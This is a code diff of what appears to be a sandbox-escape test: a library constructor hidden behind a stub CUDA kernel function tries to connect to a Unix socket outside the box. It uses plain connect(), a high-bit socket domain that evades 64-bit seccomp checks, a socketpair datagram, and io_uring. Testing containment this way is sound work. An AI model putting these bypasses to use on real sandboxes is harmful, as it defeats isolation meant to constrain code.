@@ -1,7 +1,10 @@
 // Reaches a daemon outside the box through its socket file: attack_test.sh listens on
-// /var/tmp/rope2d-attack.sock (world-writable, on the box's read-only root, where no mount
-// stops a connect) and leaves a mark for every connection it accepts. Tried twice: with
-// socket() and connect(), and through io_uring, whose operations no seccomp filter sees.
+// /var/tmp/rope2d-attack.sock (a stream) and /var/tmp/rope2d-attack-dgram.sock (datagrams, as
+// the journal's), world-writable, on the box's read-only root, where no mount stops a connect,
+// and leaves a mark for every connection or datagram. Tried four ways: socket() and connect();
+// socket() with the domain's high 32 bits set (the kernel reads an int: a filter comparing 64
+// bits would take it for another domain); a datagram socket of a socketpair() sent to the
+// path; and through io_uring, whose operations no seccomp filter sees.
 #include <linux/io_uring.h>
 #include <sys/mman.h>
 #include <sys/socket.h>
@@ -12,19 +15,33 @@
 
 static const char* const listener = "/var/tmp/rope2d-attack.sock";
 
-static sockaddr_un address() {
+static sockaddr_un address(const char* path = listener) {
   sockaddr_un a{};
   a.sun_family = AF_UNIX;
-  std::strncpy(a.sun_path, listener, sizeof a.sun_path - 1);
+  std::strncpy(a.sun_path, path, sizeof a.sun_path - 1);
   return a;
 }
 
-static void by_calls() {
-  const int s = socket(AF_UNIX, SOCK_STREAM, 0);
+static void connect_and_say(int s, const char* words) {
   if (s < 0) return;
   const sockaddr_un a = address();
-  if (connect(s, reinterpret_cast<const sockaddr*>(&a), sizeof a) == 0) (void)!write(s, "by connect()\n", 13);
+  if (connect(s, reinterpret_cast<const sockaddr*>(&a), sizeof a) == 0) (void)!write(s, words, std::strlen(words));
   close(s);
+}
+
+static void by_calls() { connect_and_say(socket(AF_UNIX, SOCK_STREAM, 0), "by connect()\n"); }
+
+static void by_high_bits() {
+  connect_and_say(static_cast<int>(syscall(SYS_socket, 0x100000000L | AF_UNIX, SOCK_STREAM, 0)), "by high bits\n");
+}
+
+static void by_pair() {
+  int pair[2];
+  if (socketpair(AF_UNIX, SOCK_DGRAM, 0, pair) != 0) return;
+  const sockaddr_un a = address("/var/tmp/rope2d-attack-dgram.sock");
+  (void)!sendto(pair[0], "by socketpair\n", 14, 0, reinterpret_cast<const sockaddr*>(&a), sizeof a);
+  close(pair[0]);
+  close(pair[1]);
 }
 
 // One operation through a ring of one entry: its result, or -1 where the ring is refused.
@@ -86,6 +103,8 @@ static void by_ring() {
 
 __attribute__((constructor)) static void attack() {
   by_calls();
+  by_high_bits();
+  by_pair();
   by_ring();
 }
 extern "C" int rope2d_backward(const void*, const void*, const float*, float*, int64_t, int, cudaStream_t) { return 0; }
